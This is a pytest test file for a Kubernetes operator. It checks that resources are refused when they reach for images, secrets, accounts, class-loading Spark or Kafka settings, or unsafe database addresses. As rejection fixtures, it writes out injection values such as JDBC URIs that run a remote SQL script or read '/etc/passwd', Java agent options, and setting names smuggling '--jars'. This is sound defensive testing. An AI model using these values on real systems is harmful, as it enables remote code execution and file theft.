"""What a resource may use that its author could not: only what its owner or the chart allows. What is there under a
needed name stays whose it is.
"""

import asyncio
from typing import Any

import pytest
from kinds_of_a_test import INPUTS
from kube_of_a_test import KubeOfATest, context_of
from tables_of_a_test import STREAM
from tables_world import World, ready, run

from bmq_operator.allowed import Allowed, why_not_database, why_not_names, why_not_settings, without_tag
from bmq_operator.clusters.configuration import config_name, server_yaml
from bmq_operator.clusters.desired import desired
from bmq_operator.clusters.existing import Done, Existing, ObjectTaken, bring_about, read_existing, untaken
from bmq_operator.clusters.gathering import gather
from bmq_operator.clusters.refused import NotToBe
from bmq_operator.settings import OperatorSettings
from bmq_resources.cluster import Cluster


def described(kind: str, name: str, **more: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": kind,
        "metadata": {"name": name, "namespace": "shop", "uid": f"uid-{name}"} | more.pop("meta", {}),
        **more,
    }


BEYOND: dict[str, tuple[dict[str, Any], str]] = {
    "an image": ({"image": "evil.example/pwn:1"}, "image: the image evil.example/pwn"),
    "an account": ({"serviceAccount": "admin-bot"}, "serviceAccount: the ServiceAccount admin-bot"),
    "a secret": (
        {"store": {"secretName": "database", "accessKeyIdKey": "password"}},
        "store.secretName: the Secret database",
    ),
    "another namespace": (
        {"sparkConf": {"spark.kubernetes.namespace": "kube-system"}},
        "sparkConf: spark.kubernetes.namespace",
    ),
    "a host's folder": (
        {"sparkConf": {"spark.kubernetes.driver.volumes.hostPath.h.mount.path": "/host"}},
        "sparkConf: spark.kubernetes.driver",
    ),
    "a secret by sparkConf": (
        {"sparkConf": {"spark.kubernetes.driver.secretKeyRef.X": "other:password"}},
        "sparkConf: spark.kubernetes.driver",
    ),
    "code": ({"sparkConf": {"spark.jars.packages": "evil:pkg:1"}}, "sparkConf: spark.jars.packages"),
    "a class of what else may be set": (
        {"sparkConf": {"spark.sql.streaming.streamingQueryListeners": "evil.Listener"}},
        "sparkConf: spark.sql.streaming.streamingQueryListeners",
    ),
    "a class that commits": (
        {"sparkConf": {"spark.sql.parquet.output.committer.class": "evil.C"}},
        "sparkConf: spark.sql.parquet.output.committer",
    ),
    "a class that keeps state": (
        {"sparkConf": {"spark.sql.streaming.stateStore.providerClass": "evil.C"}},
        "sparkConf: spark.sql.streaming.stateStore.providerClass",
    ),
    "a class by a word of its own": (
        {"sparkConf": {"spark.io.compression.codec": "Evil"}},
        "spark.io.compression.codec would load the class 'Evil'",
    ),
    "a class among numbers": (
        {"sparkConf": {"spark.sql.files.x": "1, evil.Class"}},
        "sparkConf: spark.sql.files.x would load the class",
    ),
    "a class of a consumer": (
        {"consumerConfig": {"kafka.max.x": "evil.Class"}},
        "consumerConfig: max.x would load the class",
    ),
    "a class beside another value of its name": (
        {"consumerConfig": {"kafka.max.x": "evil.Class", "max.x": "1"}},
        "consumerConfig: max.x would load the class",
    ),
    "a class by a name with a space": (
        {"sparkConf": {"spark.sql.streaming.someClass ": "Evil"}},
        "sparkConf: 'spark.sql.streaming.someClass ' is no name",
    ),
    "a config map": (
        {"format": "json", "schema": {"configMapKeyRef": {"name": "vault"}}},
        "schema.configMapKeyRef.name: the ConfigMap vault does not say",
    ),
    "options of Java": (
        {"sparkConf": {"spark.driver.extraJavaOptions": "-javaagent:x"}},
        "sparkConf: spark.driver.extraJavaOptions",
    ),
    "options by a variable": (
        {"placement": {"env": [{"name": "JAVA_TOOL_OPTIONS", "value": "-XX:OnError=x"}]}},
        "placement.env: JAVA_TOOL_OPTIONS",
    ),
    "a class": ({"consumerConfig": {"kafka.interceptor.classes": "evil.Class"}}, "consumerConfig: interceptor.classes"),
}


@pytest.mark.parametrize(("beyond", "says"), BEYOND.values(), ids=BEYOND)
def test_a_table_that_reaches_for_what_is_not_its_authors_is_not_written_and_says_what_allows_it(
    beyond: dict[str, Any], says: str
) -> None:
    async def use(world: World) -> None:
        for kind, name in (
            ("ServiceAccount", "admin-bot"),
            ("Secret", "database"),
            ("Secret", "keys"),
            ("ConfigMap", "vault"),
        ):
            world.kube.keep(described(kind, name, meta={"labels": {"bmq.io/use": "allowed"}} if name == "keys" else {}))
        outcome = await world.look({**STREAM, **beyond}, oneTable=True)
        assert (ready(outcome).status, ready(outcome).reason) == ("False", "NotAllowed")
        assert says in ready(outcome).message and "bmq's chart" in ready(outcome).message
        assert world.kube.writes == []

    run(use)


def test_a_class_is_allowed_by_its_settings_whole_name_alone() -> None:
    name = "spark.sql.streaming.stateStore.providerClass"
    assert "allow.sparkConf" in why_not_names([name], ("spark.sql.*", "*"), field="sparkConf", value="allow.sparkConf")
    assert (
        why_not_names(
            [name, "spark.sql.shuffle.partitions"], ("spark.sql.*", name), field="sparkConf", value="allow.sparkConf"
        )
        == ""
    )


@pytest.mark.parametrize(
    ("value", "may"),
    [("zstd", True), ("LZ4", True), ("org.apache.spark.io.ZStdCompressionCodec", False), ("Evil", False), ("", False)],
)
def test_a_codec_is_one_that_spark_knows_by_a_word(value: str, may: bool) -> None:
    for name in ("spark.io.compression.codec", "spark.sql.streaming.stateStore.compression.codec"):
        why = why_not_settings({name: value}, Allowed().spark_conf, field="sparkConf", value="allow.sparkConf")
        assert (why == "") == may, why
        assert why_not_settings({name: value}, (name,), field="sparkConf", value="allow.sparkConf") == ""


@pytest.mark.parametrize(
    "name",
    ["spark.sql.files.x=1 --jars", "spark.sql.files.x\nspark.jars", "spark.sql.files.x ", "spark.sql.files.x:y", ""],
)
def test_what_would_be_another_setting_where_it_is_put_together_is_no_name(name: str) -> None:
    for patterns in (Allowed().spark_conf, ("*",), (name,)):
        assert "is no name of a setting" in why_not_settings(
            {name: "1"}, patterns, field="sparkConf", value="allow.sparkConf"
        )


@pytest.mark.parametrize(
    "settings",
    [
        {"spark.sql.session.timeZone": "America/Argentina/Ushuaia"},
        {
            "spark.sql.files.maxPartitionBytes": "1.5m",
            "spark.speculation.quantile": "0.9",
            "spark.sql.streaming.checkpointLocation": "s3a://b.c/d.e",
        },
    ],
)
def test_what_settings_usually_have_is_taken_for_no_class(settings: dict[str, str]) -> None:
    assert why_not_settings(settings, Allowed().spark_conf, field="sparkConf", value="allow.sparkConf") == ""


DATABASES = {
    "jdbc:postgresql://db/lake": "",
    "jdbc:postgresql://db.shop.svc:5432/lake": "",
    "jdbc:postgresql://[fd00::1]:5432,other:5432/lake?user=job&sslmode=require&currentSchema=x": "",
    "jdbc:postgresql://db/lake?socketFactory=org.springframework.ClassPathXml&socketFactoryArg=http://e": "socketFac",
    "jdbc:postgresql://db/lake?ssl=true&loggerFile=/tmp/x": "the parameter: loggerFile",
    "jdbc:postgresql://db/lake?ssl=true;sslfactory=evil.Class": "the parameter: sslfactory",
    "jdbc:postgresql://db/lake?%73ocketFactory=evil.Class": "the parameter: %73ocketFactory",
    "jdbc:postgresql:lake?socketFactory=evil.Class": "the parameter: socketFactory",
    "jdbc:postgresql://job:known@db/lake": "no address of a database",
    "jdbc:postgresql://db/../lake": "no address of a database",
    "jdbc:mysql://address=(host=db)(allowLoadLocalInfile=true)/lake": "no address of a database",
    "jdbc:mysql://db/lake": "the driver: mysql",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'": "no address of a database",
    "jdbc:h2:x;INIT=RUNSCRIPT": "the driver: h2",
    "jdbc:sqlite:/etc/passwd": "no address of a database",
    "jdbc:sqlite::resource:http://evil/x.db": "no address of a database",
    "jdbc:derby:x;create=true": "the driver: derby",
    "jdbc:a": "no address of a database",
    "jdbc:": "no address of a database",
}


@pytest.mark.parametrize(("uri", "says"), DATABASES.items(), ids=DATABASES)
def test_an_address_of_a_database_loads_no_class_and_reads_no_file(uri: str, says: str) -> None:
    why = why_not_database(uri, Allowed(), field="iceberg.catalogUri")
    assert (why == "") == (says == "")
    assert says in why


@pytest.mark.parametrize("by", ["the label", "the chart"])
def test_what_its_owner_labels_or_the_chart_names_is_used(by: str) -> None:
    async def use(world: World) -> None:
        labels = {"bmq.io/use": "allowed"} if by == "the label" else {}
        for kind, name in (("ServiceAccount", "admin-bot"), ("Secret", "keys")):
            world.kube.keep(described(kind, name, meta={"labels": labels}))
        if by == "the chart":
            allow = Allowed(secrets=("key*",), service_accounts=("admin-*",))
            object.__setattr__(world.context, "settings", world.context.settings.model_copy(update={"allow": allow}))
        outcome = await world.look({**STREAM, "serviceAccount": "admin-bot"}, oneTable=True)
        assert ready(outcome).reason == "Submitting"

    run(use)


@pytest.mark.parametrize(
    ("spec", "says"),
    [
        ({"image": {"repository": "evil.example/pwn"}}, "image.repository: the image evil.example/pwn"),
        (
            {"store": {"minio": {"embedded": True, "image": "evil.example/minio:1"}}},
            "store.minio.image: the image evil.example/minio",
        ),
        (
            {"store": {"url": "s3://b", "credentials": {"secretName": "database", "accessKeyIdKey": "password"}}},
            "the Secret database",
        ),
    ],
)
def test_a_cluster_that_reaches_for_what_is_not_its_authors_is_not_made(spec: dict[str, Any], says: str) -> None:
    cluster = Cluster.model_validate({"metadata": {"name": "bmq", "namespace": "shop", "uid": "uid-bmq"}, "spec": spec})
    context = context_of(KubeOfATest(described("Secret", "database", data={"password": "eA=="})), "", {})
    with pytest.raises(NotToBe) as told:
        asyncio.run(gather(context, cluster, Existing(objects={}, pods=()), advertised=""))
    assert told.value.finding.reason == "NotAllowed"
    assert says in told.value.finding.message


VAULT = Cluster.model_validate({"metadata": {"name": "vault", "namespace": "shop", "uid": "uid-of-the-cluster"}})
CONFIG = config_name(VAULT, INPUTS, server_yaml(VAULT))
VICTIMS = {
    "an account": described("ServiceAccount", "vault", meta={"annotations": {"role": "admin"}}),
    "a service": described("Service", "vault-admin", spec={"selector": {"app": "vault"}}),
    "a secret": described("Secret", "vault-auth", data={"root-token": "c2VjcmV0"}),
    "configuration": described("ConfigMap", CONFIG, data={"vault.hcl": "storage {}"}),
    "one that is labelled like its own": described(
        "ConfigMap", CONFIG, data={}, meta={"labels": {"bmq.io/cluster": "vault"}}
    ),
}


@pytest.mark.parametrize("victim", VICTIMS.values(), ids=VICTIMS)
def test_an_object_that_was_there_under_a_name_that_a_cluster_needs_stays_as_it_is(victim: dict[str, Any]) -> None:
    kube, before = KubeOfATest(victim), {**victim, "metadata": dict(victim["metadata"])}

    async def main() -> None:
        existing = await read_existing(kube, VAULT)  # type: ignore[arg-type]
        await bring_about(kube, VAULT, existing, desired(VAULT, INPUTS), done=Done())  # type: ignore[arg-type]

    with pytest.raises(ObjectTaken, match="was there before"):
        asyncio.run(main())
    assert kube.manifests[victim["kind"], "shop", victim["metadata"]["name"]] == before


HELMS = {"app.kubernetes.io/managed-by": "Helm"}
OPERATORS = HELMS | {"app.kubernetes.io/name": "bmq-operator"}


@pytest.mark.parametrize(
    ("kind", "meta", "deletes"),
    [
        ("ServiceAccount", {"labels": OPERATORS}, False),
        ("ServiceAccount", {}, False),
        ("Service", {"labels": HELMS}, False),
        ("Service", {"labels": OPERATORS}, False),
        ("Service", {"ownerReferences": [{"controller": True, "uid": "another"}]}, False),
        ("Service", {}, True),
    ],
)
def test_what_others_may_rely_on_nobody_is_told_to_delete(kind: str, meta: dict[str, Any], deletes: bool) -> None:
    with pytest.raises(ObjectTaken, match="reate the Cluster with another name") as taken:
        untaken({"kind": kind, "metadata": {"name": "vault", "namespace": "shop", **meta}}, VAULT)
    assert ("delete" in str(taken.value).lower()) == deletes
    assert ("serviceAccount.name" in str(taken.value)) == (meta.get("labels") == OPERATORS)


@pytest.mark.parametrize(("meta", "deletes"), [({}, True), ({"labels": HELMS}, False)])
def test_a_listener_whose_service_is_somebody_elses_is_to_have_another_name(
    meta: dict[str, Any], deletes: bool
) -> None:
    theirs = {"kind": "Service", "metadata": {"name": "vault-out-0", "namespace": "shop", **meta}}
    with pytest.raises(ObjectTaken, match="Choose another name for the listener out") as taken:
        untaken(theirs, VAULT, listener="out")
    assert "Create the Cluster" not in str(taken.value)
    assert ("delete" in str(taken.value)) == deletes


@pytest.mark.parametrize(
    ("image", "repository"),
    [("a", "a"), ("a:1", "a"), ("r:5000/a", "r:5000/a"), ("r:5000/a:1", "r:5000/a"), ("a@sha256:1", "a")],
)
def test_of_an_image_the_repository_is_what_is_allowed(image: str, repository: str) -> None:
    assert without_tag(image) == repository


def test_the_chart_tells_what_is_allowed_as_json(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BMQ_OPERATOR_ALLOW", '{"images": ["mine/*"], "sparkConf": []}')
    allow = OperatorSettings().allow
    assert (allow.images, allow.spark_conf, allow.env) == (("mine/*",), (), Allowed().env)
